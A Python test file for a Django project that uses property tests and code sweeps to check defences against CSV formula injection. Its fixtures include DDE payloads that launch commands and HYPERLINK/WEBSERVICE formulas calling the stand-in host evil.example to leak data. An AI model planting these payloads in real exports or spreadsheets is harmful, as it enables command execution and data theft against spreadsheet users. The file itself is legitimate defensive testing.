"""Spreadsheet safety (review findings L1, L2): the one CSV writer, every text cleaner, and the sweeps that keep every
CSV writer and every free-text form field on them.

Property tests feed hostile text (formula characters behind every kind of Unicode blank, full-width and small forms,
DDE payloads) to each writer and cleaner and read the result back the way a spreadsheet would see it.
"""

from __future__ import annotations

import ast
import csv
import io
import unicodedata
from decimal import Decimal
from pathlib import Path

import pytest
from django import forms as django_forms
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from amparo import csvsafe
from amparo.intake import validators

ROOT = Path(__file__).resolve().parents[1] / "amparo"

# Every blank a spreadsheet or a reader may skip: all of Zs, Zl, Zp, the ASCII and C1 whitespace, and invisible
# format characters such as the zero-width space and the byte-order mark.
BLANKS = sorted(
    {chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Zs", "Zl", "Zp")}
    | set("\t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\u200b\u200c\u200d\u2060\ufeff\u200e\u200f")
)
# Characters that are, or NFKC-normalise to, a formula start.
STARTS = sorted(
    {chr(c) for c in range(0x110000) if unicodedata.normalize("NFKC", chr(c))[:1] in "=+-@"} | {"\u2212"}
)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","ICE statement")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    '=WEBSERVICE("http://evil.example/")',
]

hostile = st.builds(
    lambda pre, start, rest: pre + start + rest,
    st.text(st.sampled_from(BLANKS), max_size=4),
    st.sampled_from(STARTS),
    st.text(max_size=40),
)
anything = st.one_of(hostile, st.text(max_size=60), st.sampled_from(PAYLOADS))


def runs_as_formula(cell: str) -> bool:
    """How a spreadsheet sees a cell: a leading tab or CR, or = + - @ (in any compatibility form) after blanks."""
    if cell[:1] in ("\t", "\r"):
        return True
    for ch in cell:
        if ch.isspace() or unicodedata.category(ch) in ("Zs", "Zl", "Zp", "Cf"):
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in "=+-@" or ch == "\u2212"
    return False


def read_back(rows: list[list[object]]) -> list[list[str]]:
    out = io.StringIO()
    w = csvsafe.writer(out)
    w.writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


# --- the writer -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        *PAYLOADS,
        "\u00a0=1+1",
        "\u3000=1+1",
        "\n=HYPERLINK(1)",
        "\n\n@SUM(1)",
        "\t1",
        "\r1",
        "\uff1d1+1",
        "\u200b=1",
    ],
)
def test_l1_the_writer_quotes_every_formula_cell(text: str) -> None:
    [[cell]] = read_back([[text]])
    assert cell == "'" + text
    assert not runs_as_formula(cell)


def test_l1_numbers_stay_numbers_and_plain_text_is_unchanged() -> None:
    [[lon, lat, count, dec, text, empty, flag, neg_text]] = read_back(
        [[-87.6298, 41.8781, -3, Decimal("-97.100"), "Calle 5 y Main", None, True, "-87.6"]]
    )
    assert (lon, lat, count, dec) == ("-87.6298", "41.8781", "-3", "-97.100")
    assert (text, empty, flag) == ("Calle 5 y Main", "", "true")
    assert neg_text == "'-87.6"  # a string is text: a column that means a number passes a number


def test_l1_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    """A bare CR inside a cell is quoted, so no spreadsheet breaks the row there and runs what follows."""
    out = io.StringIO()
    csvsafe.writer(out).writerow(["note\r=HYPERLINK(1)", 2])
    assert out.getvalue() == '"note\r=HYPERLINK(1)",2\r\n'
    with pytest.raises(ValueError):
        csvsafe.writer(out, lineterminator="\n")


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(anything, min_size=1, max_size=5), min_size=1, max_size=5))
@example([["\u00a0=1+1", "\u3000@SUM(1)", "\n=HYPERLINK(1)"]])
def test_l1_no_cell_the_writer_writes_runs_as_a_formula(rows: list[list[object]]) -> None:
    back = read_back(rows)
    assert len(back) == len(rows)
    for row_in, row_out in zip(rows, back, strict=True):
        for value, cell in zip(row_in, row_out, strict=True):
            assert not runs_as_formula(cell), cell
            # Nothing is lost: the cell is the text, or a quote and the text.
            assert cell in (value, "'" + str(value))


@given(anything)
def test_l1_neutralising_is_idempotent(text: str) -> None:
    once = csvsafe.neutralise(text)
    assert csvsafe.neutralise(once) == once
    assert not runs_as_formula(once)


# --- the cleaners ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '\n=HYPERLINK("http://evil.example")',
        "\n\n@SUM(1)",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u2003=1+1",
        "\u200b=1+1",
        "\ufeff@SUM(1)",
        "\uff1dHYPERLINK(1)",
        "\ufe66cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "- HYPERLINK(1)",
        "\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_l2_clean_text_refuses_a_formula_behind_any_blank(text: str) -> None:
    with pytest.raises(ValidationError) as caught:
        validators.clean_text(text)
    assert caught.value.code == "formula"
    with pytest.raises(ValidationError):
        validators.check_no_formula(text)


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("  Tres agentes frente a la tienda \n", "Tres agentes frente a la tienda"),
        ("\u3000Zwei Beamte\u3000", "Zwei Beamte"),
        ("+1 (555) 123-4567", "+1 (555) 123-4567"),  # a phone number is arithmetic at worst
        ("-5", "-5"),
        ("\uff21gents", "Agents"),  # NFKC: what is stored is what was checked
    ],
)
def test_l2_clean_text_stores_the_normalised_text_it_checked(text: str, stored: str) -> None:
    assert validators.clean_text(text) == stored


@settings(max_examples=400)
@given(anything)
def test_l2_cleaner_output_never_starts_a_formula_and_is_stable(text: str) -> None:
    try:
        out = validators.clean_text(text)
    except ValidationError:
        return
    # The one exception is a plain number or phone number, which cannot call a function; the writer quotes it.
    if runs_as_formula(out):
        assert validators._PLAIN_NUMBER.fullmatch(out), out
        assert not runs_as_formula(csvsafe.neutralise(out))
    assert out == unicodedata.normalize("NFKC", out)
    assert validators.clean_text(out) == out  # idempotent: cleaning stored text changes nothing


@given(hostile)
def test_l2_a_hostile_start_is_refused_unless_it_is_a_plain_number(text: str) -> None:
    normal = validators.normalise(text)
    try:
        validators.clean_text(text)
    except ValidationError:
        return
    assert not runs_as_formula(normal) or validators._PLAIN_NUMBER.fullmatch(normal)


# --- the sweeps ------------------------------------------------------------------------------------------------

CSV_WRITERS = {"writer", "DictWriter"}


def _modules() -> list[Path]:
    return [p for p in ROOT.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts]


def test_l1_sweep_no_module_but_csvsafe_writes_csv() -> None:
    """Finds every CSV writer in the code: a new export that calls csv.writer, csv.DictWriter, pandas to_csv or
    imports the writer from csv fails here until it uses amparo.csvsafe.writer."""
    offenders: list[str] = []
    users: list[str] = []
    for path in _modules():
        rel = str(path.relative_to(ROOT.parent))
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            via_csvsafe = isinstance(node, ast.Attribute) and (
                isinstance(node.value, ast.Name) and node.value.id == "csvsafe"
            )
            if (
                isinstance(node, ast.Attribute)
                and node.attr in CSV_WRITERS | {"to_csv"}
                and not via_csvsafe
                and path.name != "csvsafe.py"
            ):
                offenders.append(f"{rel}:{node.lineno} .{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv"):
                names = {a.name for a in node.names}
                if names & (CSV_WRITERS | {"*"}):
                    offenders.append(f"{rel}:{node.lineno} from {node.module} import {names}")
            if isinstance(node, ast.Import) and any(a.name == "_csv" for a in node.names):
                offenders.append(f"{rel}:{node.lineno} import _csv")
            if (
                isinstance(node, ast.Attribute)
                and node.attr == "writer"
                and isinstance(node.value, ast.Name)
                and node.value.id == "csvsafe"
            ):
                users.append(rel)
    assert offenders == [], "write CSV through amparo.csvsafe.writer only"
    # The sweep sees the real writers: the public open data and the atlas tool.
    assert {"amparo/public/exports.py", "amparo/public/tools/us_atlas.py"} <= set(users)


def test_l1_sweep_every_csv_download_is_written_by_csvsafe() -> None:
    """Every CSV the public layer serves comes from a generator in a module that writes through csvsafe."""
    from amparo.public import exports

    csv_downloads = {name: gen for name, (ctype, _f, gen) in exports.DOWNLOADS.items() if "csv" in ctype}
    assert set(csv_downloads) == {"incidents.csv", "incidents-acled.csv", "aggregates.csv"}
    source = Path(exports.__file__).read_text(encoding="utf-8")
    assert "csvsafe.writer(" in source and "csv.writer(" not in source.replace("csvsafe.writer(", "")


FREE_TEXT_FORM_MODULES = ["amparo.incidents.forms", "amparo.intake.forms"]
NOT_FREE_TEXT = {"upload_ids", "form_token", "code", "website"}  # ids, tokens, a follow-up code, the honeypot


@pytest.mark.parametrize("module_name", FREE_TEXT_FORM_MODULES)
def test_l2_sweep_every_free_text_field_of_incident_source_and_intake_forms_cleans(module_name: str) -> None:
    import importlib

    module = importlib.import_module(module_name)
    forms_seen = 0
    for obj in vars(module).values():
        if (
            not (isinstance(obj, type) and issubclass(obj, django_forms.BaseForm))
            or obj.__module__ != module_name
        ):
            continue
        forms_seen += 1
        for name, field in getattr(obj, "base_fields", {}).items():
            if type(field) is django_forms.CharField and name not in NOT_FREE_TEXT:
                pytest.fail(f"{obj.__name__}.{name} is a plain CharField; use validators.CleanTextField")
            if name in ("official_claims", "evidence_response", "notes_public", "title", "text"):
                assert isinstance(field, validators.CleanTextField), f"{obj.__name__}.{name}"
    assert forms_seen >= 3
